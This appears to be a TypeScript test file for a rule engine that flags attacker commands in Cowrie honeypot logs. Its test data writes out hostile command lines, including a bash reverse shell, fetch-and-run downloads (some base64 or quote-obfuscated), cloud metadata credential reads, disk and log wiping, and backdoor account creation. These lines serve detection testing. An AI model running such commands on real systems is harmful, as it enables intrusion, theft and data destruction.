import assert from 'node:assert/strict'
import {
  existsSync,
  globSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { pathToFileURL } from 'node:url'
import { gunzipSync } from 'node:zlib'
import { RulesError } from '../../src/core/errors.ts'
import type { FieldClass } from '../../src/core/verdict.ts'
import { LIMITS } from '../../src/limits.ts'
import { readDefinition } from '../../src/neutralize/rules/definition.ts'
import { LiteralFinder } from '../../src/neutralize/rules/literals.ts'
import { loadRules, readRules } from '../../src/neutralize/rules/load.ts'
import { compileRules } from '../../src/neutralize/rules/rule-set.ts'
import { shellFacts } from '../../src/neutralize/shell.ts'
import { unwrap } from '../../src/neutralize/unwrap/unwrap.ts'
import { fc } from '../support/property.ts'

const ROOT = join(import.meta.dirname, '../..')
const FOLDER = pathToFileURL(`${ROOT}/rules/`)
const CORPUS = join(ROOT, '../shared/corpus')
const NO_CORPUS = existsSync(CORPUS)
  ? false
  : 'the corpus of Cowrie logs does not lie beside the project'

const rules = loadRules(FOLDER, { unwrap, shellFacts })
/** A matcher that sees texts as they stand. */
const AS_TYPED = { unwrap: (text: string) => ({ texts: [text], layers: [] }), shellFacts }

const RULE = {
  id: 'hazard.example.word',
  version: 1,
  axis: 'hazard',
  score: 40,
  title: 'Holds the word',
  reason: 'An example. Source: https://docs.example/word',
  pattern: '\\bword\\b',
  literals: ['word'],
  matches: ['a word'],
  misses: ['a sword'],
}

function badRule(fault: RegExp) {
  return (error: unknown) =>
    error instanceof RulesError && error.code === 'RULES_BAD_RULE' && fault.test(error.message)
}

function compiled(...changes: readonly object[]) {
  return compileRules(
    changes.map((change) => readDefinition({ ...RULE, ...change }, 'example')),
    AS_TYPED,
  )
}

describe('the rules of the release', () => {
  test('each hits what it says it hits, in a text of its first class', () => {
    for (const rule of rules.definitions) {
      const fieldClass = rule.on.includes('command') ? 'command' : rule.on[0]!
      for (const text of rule.matches) {
        assert.ok(rules.match(text, fieldClass).rules.includes(rule.id), `${rule.id}: ${text}`)
      }
    }
  })

  test('each misses what it says it misses, in texts of all its classes', () => {
    for (const rule of rules.definitions) {
      for (const text of rule.misses) {
        for (const fieldClass of rule.on) {
          const hits = rules.match(text, fieldClass).rules
          assert.ok(!hits.includes(rule.id), `${rule.id}, ${fieldClass}: ${text}`)
        }
      }
    }
  })

  test('each looks at no other class than it names', () => {
    for (const rule of rules.definitions) {
      for (const fieldClass of ['text', 'file', 'command'] as const) {
        if (rule.on.includes(fieldClass)) continue
        for (const text of rule.matches) {
          assert.ok(!rules.match(text, fieldClass).rules.includes(rule.id), rule.id)
        }
      }
    }
  })

  test('each is the only one with its pattern', () => {
    const seen = new Map<string, string>()
    for (const { id, pattern } of rules.definitions) {
      if (pattern === undefined) continue
      assert.equal(seen.get(pattern), undefined, id)
      seen.set(pattern, id)
    }
  })

  test('a deliberate attack on the reader, and nothing else, reaches the score of withholding', () => {
    const withheld = rules.definitions.filter(
      (rule) => rule.axis === 'hazard' && rule.score >= LIMITS.holdHazard,
    )
    for (const rule of withheld)
      assert.match(rule.id, /^hazard\.(terminal|log|csv|stix|mail|prompt)\./)
    for (const text of [
      '$' + '{jndi:ldap://a.example/x}',
      '<script>alert(1)</script>',
      '() { :;}; id',
    ]) {
      assert.ok(rules.match(text, 'data').hazard < 90, text)
    }
  })

  test('none hits a command line of an ordinary day', () => {
    const { commands } = JSON.parse(readFileSync(join(ROOT, 'redteam/benign.json'), 'utf8')) as {
      commands: string[]
    }
    assert.ok(commands.length >= 200)
    for (const command of commands) {
      assert.deepEqual([command, rules.match(command, 'command').rules], [command, []])
    }
  })

  test('an encoded command has the hits of the plain one', () => {
    const plain = 'wget http://192.0.2.9/bins.sh'
    const encoded = [
      `echo ${Buffer.from(plain).toString('base64')} | base64 -d | sh`,
      "w'g'et http://192.0.2.9/bins.sh",
      'wget$IFS"http://192.0.2.9/bins.sh"',
    ]
    const hits = rules.match(plain, 'command').rules
    assert.ok(hits.length > 0)
    for (const text of encoded) assert.deepEqual(rules.match(text, 'command').rules, hits, text)
  })
})

describe('families of attacks', () => {
  /** Command lines in the shapes that bots type, and a rule that must name each. */
  const FAMILIES: readonly (readonly [rule: string, command: string])[] = [
    ['threat.download.folder-chain', 'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ls'],
    ['threat.download.chmod-run', 'curl -O http://192.0.2.9/s; chmod 777 s; sh s; rm -rf *'],
    ['threat.download.tftp', 'tftp -r .sh -g 192.0.2.9'],
    ['threat.download.ftpget', 'ftpget -v -u anonymous -p anonymous -P 21 192.0.2.9 a a'],
    ['threat.persistence.ssh-folder-anew', 'cd ~ && rm -rf .ssh && mkdir .ssh && cd ~'],
    ['threat.family.outlaw-lockr', 'lockr -ia .ssh'],
    ['threat.persistence.chattr-ssh', 'cd ~; chattr -ia .ssh; lockr -ia .ssh'],
    ['threat.recon.cpu-name', 'cat /proc/cpuinfo | grep name | wc -l'],
    ['threat.recon.memory-columns', "free -m | grep Mem | awk '{print $2, $3}'"],
    ['threat.recon.uname-flags', 'uname -s -v -n -r -m'],
    ['threat.evasion.which-ls', 'ls -lh $(which ls)'],
    ['threat.recon.mikrotik', '/ip cloud print'],
    ['threat.recon.telegram', 'locate D877F783D5D3EF8Cs'],
    ['threat.recon.sms-gateway', 'ls -la /dev/ttyGSM* /var/spool/sms/*'],
    ['threat.recon.miner-search', "ps -ef | grep '[Mm]iner'"],
    ['threat.evasion.busybox-token', '/bin/busybox ABCDE'],
    ['threat.evasion.dd-header', 'dd bs=52 count=1 if=.s || cat .s'],
    ['threat.mirai.shell-words', 'enable'],
    ['threat.persistence.password-input', 'echo "root:abcdef"|chpasswd|bash'],
    ['threat.persistence.root-account', 'useradd -o -u 0 -g 0 backdoor'],
    ['threat.family.ssh-scripts', 'rm -rf /tmp/secure.sh; pkill -9 secure.sh'],
    ['threat.defence.hosts-deny', 'echo > /etc/hosts.deny'],
    ['threat.defence.log-wipe', 'rm -rf /var/log/*'],
    ['threat.defence.history', 'unset HISTORY HISTFILE; export HISTSIZE=0'],
    ['threat.control.bash-reverse-shell', 'bash -i >& /dev/tcp/192.0.2.4/4444 0>&1'],
    ['threat.credential.cloud-metadata', 'curl http://169.254.169.254/latest/meta-data/'],
    ['threat.destruction.disk', 'dd if=/dev/zero of=/dev/sda'],
    ['threat.destruction.remove-root', 'rm -rf /*'],
    ['threat.miner.program', 'nohup ./xmrig -o pool.example:3333 &'],
    ['threat.upload.scp-sink', 'scp -t /tmp/Ab1'],
  ]

  test('each is hit by a rule that names it', () => {
    for (const [rule, command] of FAMILIES) {
      const hits = rules.match(command, 'command').rules
      assert.ok(hits.includes(rule), `${command}: ${hits.join(' ')}`)
    }
  })

  /** What people type to look around, and what is no command: nothing that a rule should name. */
  const PLAIN =
    /^\W*(?:sudo |time )?(?:echo|ls|ll|cd|pwd|cat|id|whoami|who|w|last|ps|top|htop|uname|history|mkdir|rmdir|touch|nano|vim?|exit|clear|apt(?:-get)?|su|ssh|ip|ifconfig|arp|netstat|df|free|crontab|passwd|sh|bash|find|ping|which|php|base64|awk|nproc|lscpu|hostname|busybox|chmod|\/usr\/bin\/htop)\b|^\S{0,30}$|^(?:line|hello|manoj|typed|another|a{40})|^(?:#|GIF89a echo|nosuchcommand)/i

  test('few command lines of the corpus that do more than look around are hit by none', {
    skip: NO_CORPUS,
  }, (t) => {
    const commands = [
      ...new Set(
        corpusTexts()
          .filter((text) => text.isCommand)
          .map((text) => text.value),
      ),
    ]
    const attacks = commands.filter((command) => !PLAIN.test(command.trim()))
    const missed = attacks.filter(
      (command) =>
        !rules.match(command, 'command').rules.some((rule) => rule.startsWith('threat.')),
    )
    t.diagnostic(`${attacks.length - missed.length} of ${attacks.length} are hit`)
    for (const command of missed) t.diagnostic(`missed: ${JSON.stringify(command.slice(0, 80))}`)
    assert.ok(attacks.length > 100)
    assert.ok(missed.length / attacks.length < 0.2)
  })

  test('of the corpus nothing is withheld', { skip: NO_CORPUS }, () => {
    const withheld = corpusTexts().filter(
      (text) => rules.match(text.value, text.fieldClass).hazard >= LIMITS.holdHazard,
    )
    assert.deepEqual(withheld, [])
  })
})

describe('loading', () => {
  test('a definition lacks nothing', () => {
    const faults: readonly (readonly [change: object, fault: RegExp])[] = [
      [{ matches: [] }, /no examples/],
      [{ misses: undefined }, /no examples/],
      [{ reason: 'Because it is so.' }, /source/],
      [{ reason: '' }, /reason/],
      [{ title: ' ' }, /title/],
      [{ score: 101 }, /score/],
      [{ version: 0 }, /version/],
      [{ axis: 'danger' }, /axis/],
      [{ id: 'threat.example.word' }, /form/],
      [{ id: 'hazard.word' }, /form/],
      [{ literals: [] }, /literals/],
      [{ literals: ['Word'] }, /lower case/],
      [{ on: ['nothing'] }, /kind of text/],
      [{ techniques: ['1105'] }, /ATT&CK/],
      [{ patern: 'word' }, /patern/],
      [{ matches: [1] }, /list of texts/],
    ]
    assert.doesNotThrow(() => readDefinition(RULE, 'example'))
    for (const [change, fault] of faults) {
      assert.throws(() => readDefinition({ ...RULE, ...change }, 'example'), badRule(fault))
    }
    for (const value of [null, [], 'rule', 7]) {
      assert.throws(() => readDefinition(value, 'example'), badRule(/object/))
    }
  })

  test('a threat names a technique', () => {
    const threat = { ...RULE, id: 'threat.example.word', axis: 'threat' }
    assert.throws(() => readDefinition(threat, 'example'), badRule(/technique/))
    const { on } = readDefinition({ ...threat, techniques: ['T1105'] }, 'example')
    assert.ok(!on.includes('text'))
  })

  test('a pattern that cannot run in linear time is refused', () => {
    for (const pattern of ['(word)\\1', 'word(?=x)', 'word{200}', '(word']) {
      assert.throws(() => compiled({ pattern }), badRule(/linear/), pattern)
    }
  })

  test('an id that stands twice is refused', () => {
    assert.throws(() => compiled({}, {}), badRule(/twice/))
  })

  test('a file is named for its rule, and is JSON', (t) => {
    const folder = mkdtempSync(join(tmpdir(), 'nacre-rules-'))
    t.after(() => rmSync(folder, { recursive: true }))
    const url = pathToFileURL(`${folder}/`)
    assert.throws(() => readRules(url), { code: 'RULES_UNREADABLE' })
    writeFileSync(join(folder, 'other.json'), JSON.stringify(RULE))
    assert.throws(() => readRules(url), badRule(/named/))
    writeFileSync(join(folder, 'other.json'), '{')
    assert.throws(() => readRules(url), badRule(/JSON/))
    assert.throws(() => readRules(new URL('none/', url)), { code: 'RULES_UNREADABLE' })
  })

  test('every file of the folder is a rule', () => {
    const files = readdirSync(FOLDER).filter((name) => name.endsWith('.json'))
    assert.deepEqual(files.sort(), rules.definitions.map((rule) => `${rule.id}.json`).sort())
  })
})

describe('the version', () => {
  test('is the same whatever the order of the rules', () => {
    const definitions = readRules(FOLDER)
    const version = compileRules(definitions, AS_TYPED).version
    assert.match(version, /^r[0-9a-f]{16}$/)
    assert.equal(compileRules(definitions.toReversed(), AS_TYPED).version, version)
    assert.equal(rules.version, version)
  })

  test('changes with what decides a verdict and not with words about it', () => {
    const { version } = compiled({})
    for (const change of [{ score: 41 }, { version: 2 }, { pattern: 'word' }, { on: ['text'] }]) {
      assert.notEqual(compiled(change).version, version)
    }
    for (const change of [{ title: 'Other' }, { misses: ['x'] }, { literals: ['word', 'word'] }]) {
      assert.equal(compiled(change).version, version)
    }
  })

  test('differs without a rule, which then hits nothing', () => {
    const fewer = rules.without(['threat.family.outlaw-key'])
    assert.notEqual(fewer.version, rules.version)
    assert.deepEqual(fewer.match('mdrfckr', 'command').rules, [])
    assert.throws(() => rules.without(['threat.no.rule']), { code: 'RULES_UNKNOWN_RULE' })
  })
})

describe('matching', () => {
  test('the highest score of each axis counts, and hits are sorted', () => {
    const threat = { id: 'threat.example.word', axis: 'threat', techniques: ['T1105'], score: 70 }
    const set = compiled({ id: 'hazard.example.z' }, { score: 60 }, threat)
    assert.deepEqual(set.match('a WORD', 'command'), {
      rules: ['hazard.example.word', 'hazard.example.z', 'threat.example.word'],
      layers: [],
      threat: 70,
      hazard: 60,
    })
    assert.deepEqual(set.match('a sword', 'command').rules, [])
  })

  test('hits of all forms of a text are joined', () => {
    const set = compileRules(
      [
        readDefinition(RULE, 'a'),
        readDefinition(
          { ...RULE, id: 'hazard.example.x', pattern: 'typed', literals: ['typed'] },
          'b',
        ),
      ],
      { unwrap: () => ({ texts: ['typed', 'a word'], layers: ['base64'] }), shellFacts },
    )
    const verdict = set.match('typed', 'command')
    assert.deepEqual(verdict.rules, ['hazard.example.word', 'hazard.example.x'])
    assert.deepEqual(verdict.layers, ['base64'])
    const { hits } = set.explain('typed', 'command')
    assert.deepEqual(hits, [
      { rule: 'hazard.example.word', form: 1, place: { start: 2, length: 4 } },
      { rule: 'hazard.example.x', form: 0, place: { start: 0, length: 5 } },
    ])
  })

  test('a rule of commands hits what is run and not what is named', () => {
    const set = compiled({ pattern: undefined, literals: undefined, commands: ['hydra'] })
    assert.equal(set.match('sudo /usr/bin/hydra -l root', 'command').hazard, 40)
    assert.equal(set.match('cd hydra', 'command').hazard, 0)
  })

  test('explaining says the same as matching', () => {
    for (const { matches } of rules.definitions) {
      const { verdict, hits } = rules.explain(matches[0]!, 'command')
      assert.deepEqual(verdict, rules.match(matches[0]!, 'command'))
      assert.deepEqual(
        hits.map((hit) => hit.rule),
        verdict.rules,
      )
    }
  })

  test('both engines agree, however long the text', () => {
    const set = compileRules(rules.definitions, AS_TYPED)
    // A tail that no rule looks at: no literal, no word, no end of line.
    const tail = ' \u00e9'.repeat(LIMITS.ruleQuickCharsMax / 2)
    for (const rule of set.definitions) {
      if (/\$|\^|\\s\*\)/.test(rule.pattern ?? '') || rule.commands.length > 0) continue
      const fieldClass = rule.on[0]!
      for (const text of rule.matches) {
        assert.ok(set.match(text + tail, fieldClass).rules.includes(rule.id), rule.id)
      }
    }
  })

  test('padding hides nothing: patterns see what lies around their literals in a long text', () => {
    const filler = '.'.repeat(LIMITS.ruleTextCharsMax)
    const set = compiled(
      {},
      { id: 'hazard.example.bell', pattern: undefined, literals: ['\u0007'] },
    )
    assert.deepEqual(set.match(`word ${filler}`, 'text').rules, ['hazard.example.word'])
    assert.deepEqual(set.match(`${filler} word`, 'text').rules, ['hazard.example.word'])
    assert.deepEqual(set.match(`${filler}\u0007 word ${filler}`, 'text').rules, [
      'hazard.example.bell',
      'hazard.example.word',
    ])
  })

  test('an anchor meets no place where something of a long text was left out', () => {
    const set = compiled({ pattern: '^word' })
    const filler = '.'.repeat(LIMITS.ruleTextCharsMax)
    assert.deepEqual(set.match(`word${filler}`, 'text').rules, ['hazard.example.word'])
    assert.deepEqual(set.match(`${filler}word${filler}`, 'text').rules, [])
  })

  test('a rule that is slow for a long text is told of, and its verdict stands', () => {
    const slow: [string, number][] = []
    let ms = 0
    const set = compileRules([readDefinition(RULE, 'example')], {
      ...AS_TYPED,
      onSlow: (rule, took) => slow.push([rule, took]),
      now: () => (ms += LIMITS.ruleMsMax + 1),
    })
    assert.equal(set.match('a word', 'text').hazard, 40)
    assert.deepEqual(slow, [])
    assert.equal(set.match(` word${' '.repeat(LIMITS.ruleQuickCharsMax)}`, 'text').hazard, 40)
    assert.deepEqual(slow, [['hazard.example.word', LIMITS.ruleMsMax + 1]])
  })

  test('no text throws, and scores are whole numbers from 0 to 100', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        const verdict = rules.match(text, 'command')
        for (const score of [verdict.threat, verdict.hazard]) {
          assert.ok(Number.isInteger(score) && score >= 0 && score <= 100)
        }
        assert.deepEqual(verdict.rules, verdict.rules.toSorted())
      }),
    )
  })
})

test('literals are found exactly where a plain search finds them', () => {
  const word = fc.string({
    unit: fc.constantFrom('a', 'b', 'c', '\u00e9', '\u0000'),
    minLength: 1,
    maxLength: 4,
  })
  fc.assert(
    fc.property(
      fc.array(fc.array(word, { minLength: 1, maxLength: 3 }), { minLength: 1, maxLength: 8 }),
      fc.array(word),
      (owners, pieces) => {
        const text = pieces.join('')
        const found = new Set<number>()
        new LiteralFinder(owners).find(text.toUpperCase(), (owner) => found.add(owner))
        const expected = owners.flatMap((list, owner) =>
          list.some((each) => text.includes(each)) ? [owner] : [],
        )
        assert.deepEqual(
          [...found].sort((a, b) => a - b),
          expected,
        )
      },
    ),
  )
})

type CorpusText = {
  readonly file: string
  readonly value: string
  readonly fieldClass: FieldClass
  readonly isCommand: boolean
}

const CLASS_OF: Readonly<Record<string, FieldClass>> = {
  input: 'command',
  username: 'credential',
  password: 'credential',
  version: 'client',
  name: 'env',
  value: 'env',
  filename: 'file',
  destfile: 'file',
  outfile: 'file',
  url: 'url',
  data: 'data',
  payload: 'data',
}

/** All texts of the events of the corpus, each once for a class. */
function corpusTexts(): CorpusText[] {
  const texts = new Map<string, CorpusText>()
  for (const file of globSync('{lab,public,derived}/**/*', { cwd: CORPUS })) {
    if (!/json/.test(file)) continue
    const bytes = readFileSync(join(CORPUS, file))
    const lines = (file.endsWith('.gz') ? gunzipSync(bytes) : bytes).toString().split('\n')
    for (const line of lines) {
      if (!line.startsWith('{') || !line.trimEnd().endsWith('}')) continue
      const event = JSON.parse(line) as Record<string, unknown>
      for (const [key, value] of Object.entries(event)) {
        if (typeof value !== 'string') continue
        const fieldClass = CLASS_OF[key] ?? 'text'
        texts.set(`${fieldClass} ${value}`, { file, value, fieldClass, isCommand: key === 'input' })
      }
    }
  }
  return [...texts.values()]
}
